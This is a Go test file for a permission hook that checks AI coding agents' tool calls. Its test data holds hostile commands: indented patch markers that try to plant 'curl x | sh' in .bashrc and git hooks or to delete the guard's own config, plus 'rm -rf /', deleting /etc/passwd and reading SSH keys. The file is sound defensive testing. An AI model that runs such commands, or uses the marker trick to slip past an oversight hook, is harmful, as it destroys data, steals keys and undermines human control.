package hook

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/arbitergate/arbiter"
	"github.com/arbitergate/arbiter/gate"
	"github.com/arbitergate/arbiter/policy"
)

func TestPatchCalls(t *testing.T) {
	patch := "*** Begin Patch\n*** Add File: a.txt\n+hello\n*** Update File: b.go\n@@\n-x\n+y\n*** Move to: c.go\n*** Delete File: d.txt\n*** End Patch\n"
	calls, err := patchCalls(arbiter.Call{Cwd: "/p"}, patch)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range calls {
		got = append(got, c.Tool+" "+string(c.Input))
	}
	want := []string{
		`Write {"content":"hello\n","file_path":"a.txt"}`,
		`Bash {"command":"mv -- b.go c.go"}`,
		`Edit {"file_path":"c.go","new_string":"y","old_string":""}`,
		`Bash {"command":"rm -- d.txt"}`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if _, err := patchCalls(arbiter.Call{}, "rm -rf /"); err == nil {
		t.Error("a non-patch was accepted")
	}
}

// TestPatchMarkersIndented: Codex's parser trims a line before matching
// its markers, so an indented header is a header; a line that looks like
// a marker but is none is not read past.
func TestPatchMarkersIndented(t *testing.T) {
	for _, tt := range []struct {
		patch, want string
	}{
		{"*** Begin Patch\n*** Add File: notes.txt\n+hello\n *** Add File: /root/.bashrc\n+curl x | sh\n*** End Patch\n", "/root/.bashrc"},
		{"*** Begin Patch\n*** Add File: a.txt\n+x\n\t*** Delete File: /root/.config/arbiter/config.toml\n*** End Patch\n", "/root/.config/arbiter/config.toml"},
		{"*** Begin Patch\n  *** Add File: /root/.claude/settings.json\n+{}\n*** End Patch\n", "/root/.claude/settings.json"},
		{"*** Begin Patch\n*** Update File: a.go\n@@\n-x\n+y\n *** Update File: .git/hooks/pre-commit\n@@\n+curl x|sh\n*** End Patch\n", ".git/hooks/pre-commit"},
	} {
		calls, err := patchCalls(arbiter.Call{Cwd: "/p"}, tt.patch)
		if err != nil {
			continue // refusing to read the patch is also safe
		}
		found := false
		for _, c := range calls {
			found = found || strings.Contains(string(c.Input), tt.want)
		}
		if !found {
			t.Errorf("%q: the calls %v miss %s", tt.patch, calls, tt.want)
		}
	}
	if _, err := patchCalls(arbiter.Call{}, "*** Begin Patch\n*** Add File: a\n+x\n*** Frobnicate File: /root/x\n*** End Patch\n"); err == nil {
		t.Error("a marker arbiter does not know was read past")
	}
}

// fixed answers every call with one decision per tool name.
type fixed map[string]arbiter.Verdict

func (f fixed) Decide(_ context.Context, c arbiter.Call) arbiter.Decision {
	return arbiter.Decision{Decision: f[c.Tool], Rules: []string{c.Tool}, Source: arbiter.SourceStatic}
}

func TestDecideAllKeepsStrictest(t *testing.T) {
	dec := fixed{"Write": arbiter.Allow, "Bash": arbiter.Ask, "Edit": arbiter.Allow}
	d := decideAll(context.Background(), dec, []arbiter.Call{{Tool: "Write"}, {Tool: "Bash"}, {Tool: "Edit"}})
	if d.Decision != arbiter.Ask || strings.Join(d.Rules, ",") != "Bash" {
		t.Errorf("got %s %v, want ask [Bash]", d.Decision, d.Rules)
	}
}

// panicky fails inside the decision, as a bug would.
type panicky struct{}

func (panicky) Decide(context.Context, arbiter.Call) arbiter.Decision { panic("boom") }

func TestPanicDefers(t *testing.T) {
	payload := `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}`
	for _, failClosed := range []bool{false, true} {
		var out, errb bytes.Buffer
		code := Run(context.Background(), "claude", strings.NewReader(payload), &out, &errb, panicky{}, Options{FailClosed: failClosed})
		if code != 0 {
			t.Errorf("exit %d", code)
		}
		switch {
		case !failClosed && out.Len() != 0:
			t.Errorf("a panic answered %q, want no decision", out.String())
		case failClosed && !strings.Contains(out.String(), `"deny"`):
			t.Errorf("a panic with FailClosed answered %q, want deny", out.String())
		}
		if !strings.Contains(errb.String(), "boom") {
			t.Errorf("stderr %q does not name the failure", errb.String())
		}
	}
}

// FuzzHook feeds arbitrary payloads to every runtime: no panic escapes,
// the status is 0, and the answer is valid JSON (or nothing).
func FuzzHook(f *testing.F) {
	f.Add("claude", `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"rm -rf /"}}`)
	f.Add("codex", `{"hook_event_name":"PreToolUse","tool_name":"apply_patch","tool_input":{"command":"*** Begin Patch\n*** Delete File: /etc/passwd\n*** End Patch"}}`)
	f.Add("gemini", `{"hook_event_name":"BeforeTool","tool_name":"read_many_files","tool_input":{"paths":["~/.ssh/id_rsa"]}}`)
	f.Add("cursor", `{"hook_event_name":"preToolUse","tool_name":"MCP:x","tool_input":"{\"a\":1}"}`)
	f.Add("copilot", `{"toolName":"bash","toolArgs":"{\"command\":\"ls\"}"}`)
	p := policy.New(policy.Options{})
	f.Fuzz(func(t *testing.T, runtime, payload string) {
		if !Known(runtime) {
			runtime = "claude"
		}
		var out, errb bytes.Buffer
		code := Run(context.Background(), runtime, strings.NewReader(payload), &out, &errb, p, Options{Home: "/home/u"})
		if code != 0 {
			t.Fatalf("exit %d for %q", code, payload)
		}
		if out.Len() > 0 && !json.Valid(out.Bytes()) {
			t.Fatalf("answer is not JSON: %q", out.String())
		}
		if !json.Valid([]byte(payload)) && strings.Contains(out.String(), "allow") {
			t.Fatalf("invalid JSON was allowed: %q", out.String())
		}
	})
}

// TestTranscriptOnlyWhenWordsMatter: the transcript is read only when
// the user's words could change the decision, and a transcript that is
// missing (not written yet), unreadable or not a file never turns a
// static allow into defer, nor softens a deny.
func TestTranscriptOnlyWhenWordsMatter(t *testing.T) {
	dir := t.TempDir()
	typedFile := filepath.Join(dir, "typed.jsonl")
	if err := os.WriteFile(typedFile, []byte(`{"type":"user","message":{"role":"user","content":"run rm -rf /usr/lib/python3 please, then vim notes.txt"}}`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	g := &gate.Gate{Static: policy.New(policy.Options{})}
	for _, tc := range []struct {
		name, transcript, command, want string
	}{
		{"not yet written, allow", filepath.Join(dir, "later.jsonl"), "git status", `"permissionDecision":"allow"`},
		{"a directory, allow", dir, "go vet ./...", `"permissionDecision":"allow"`},
		{"a FIFO nobody writes, allow", fifo, "git log --oneline -5", `"permissionDecision":"allow"`},
		{"not yet written, deny stands", filepath.Join(dir, "later.jsonl"), "rm -rf /usr/lib/python3", `"permissionDecision":"deny"`},
		{"a directory, deny stands", dir, "rm -rf /usr/lib/python3", `"permissionDecision":"deny"`},
		{"a FIFO, deny stands", fifo, "rm -rf /usr/lib/python3", `"permissionDecision":"deny"`},
		{"typed by the user, lesser deny asked", typedFile, "vim notes.txt", `"permissionDecision":"ask"`},
		{"typed by the user, class A stays denied", typedFile, "rm -rf /usr/lib/python3", `"permissionDecision":"deny"`},
		{"not typed, allow unaffected", typedFile, "git diff", `"permissionDecision":"allow"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			payload, _ := json.Marshal(map[string]any{"hook_event_name": "PreToolUse", "transcript_path": tc.transcript, "cwd": "/home/u/proj",
				"tool_name": "Bash", "tool_input": map[string]any{"command": tc.command}})
			var out, errb bytes.Buffer
			done := make(chan int, 1)
			go func() {
				done <- Run(context.Background(), "claude", bytes.NewReader(payload), &out, &errb, g, Options{Home: "/home/u"})
			}()
			select {
			case code := <-done:
				if code != 0 {
					t.Fatalf("exit %d: %s", code, errb.String())
				}
			case <-time.After(10 * time.Second):
				t.Fatal("the hook hung reading the transcript")
			}
			if !strings.Contains(out.String(), tc.want) {
				t.Errorf("answered %q (stderr %q), want %s", out.String(), errb.String(), tc.want)
			}
		})
	}
}

// lazyCounter counts the requests fetched by a lazy decider that needs
// them for every call but Bash.
type lazyCounter struct{ fetched int }

func (l *lazyCounter) Decide(context.Context, arbiter.Call) arbiter.Decision {
	panic("a lazy decider is decided lazily")
}

func (l *lazyCounter) DecideLazily(_ context.Context, c arbiter.Call, requests func() []string) arbiter.Decision {
	if c.Tool != "Bash" {
		requests()
		l.fetched++
	}
	return arbiter.Decision{Decision: arbiter.Defer, Source: arbiter.SourceStatic}
}

// TestTranscriptReadOncePerPayload: a payload of several calls (a Codex
// patch) reads the transcript at most once.
func TestTranscriptReadOncePerPayload(t *testing.T) {
	p := filepath.Join(t.TempDir(), "t.jsonl")
	os.WriteFile(p, []byte(`{"type":"user","message":{"role":"user","content":"edit"}}`+"\n"), 0o600)
	calls := []arbiter.Call{{Tool: "Write"}, {Tool: "Bash"}, {Tool: "Edit"}}
	reads := 0
	load := lazyRequests(p, 3, func(path string, n int) ([]string, error) { reads++; return []string{"edit"}, nil })
	l := &lazyCounter{}
	decideWith(context.Background(), l, calls, load.get)
	if l.fetched != 2 || reads != 1 {
		t.Errorf("fetched %d times with %d reads, want 2 fetches and 1 read", l.fetched, reads)
	}
}

// TestCursorNeverAnswersEmpty: Cursor reads {} on a permission event as
// invalid and blocks; a defer there is an explicit ask (Cursor's own
// prompt), with a reason.
func TestCursorNeverAnswersEmpty(t *testing.T) {
	p := policy.New(policy.Options{})
	for _, tc := range []struct{ name, payload string }{
		{"preToolUse defer", `{"hook_event_name":"preToolUse","workspace_roots":["/p"],"tool_name":"Shell","tool_input":{"command":"curl -s https://example.com"}}`},
		{"beforeShellExecution defer", `{"hook_event_name":"beforeShellExecution","workspace_roots":["/p"],"command":"curl -s https://example.com","cwd":"/p"}`},
		{"beforeMCPExecution defer", `{"hook_event_name":"beforeMCPExecution","workspace_roots":["/p"],"tool_name":"query","tool_input":{"sql":"select 1"}}`},
		{"preToolUse unknown tool", `{"hook_event_name":"preToolUse","workspace_roots":["/p"],"tool_name":"Teleport","tool_input":{}}`},
		{"preToolUse bad input", `{"hook_event_name":"preToolUse","workspace_roots":["/p"],"tool_name":"Shell","tool_input":"not an object"}`},
		{"unreadable payload", `{"hook_event_name":`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out, errb bytes.Buffer
			Run(context.Background(), "cursor", strings.NewReader(tc.payload), &out, &errb, p, Options{Home: "/home/u"})
			var ans struct {
				Permission string `json:"permission"`
				User       string `json:"user_message"`
				Agent      string `json:"agent_message"`
			}
			if err := json.Unmarshal(out.Bytes(), &ans); err != nil {
				t.Fatalf("answer %q: %v", out.String(), err)
			}
			if ans.Permission != "ask" || ans.User == "" || ans.Agent == "" {
				t.Errorf("answered %s; want an explicit ask with messages", out.String())
			}
		})
	}
}
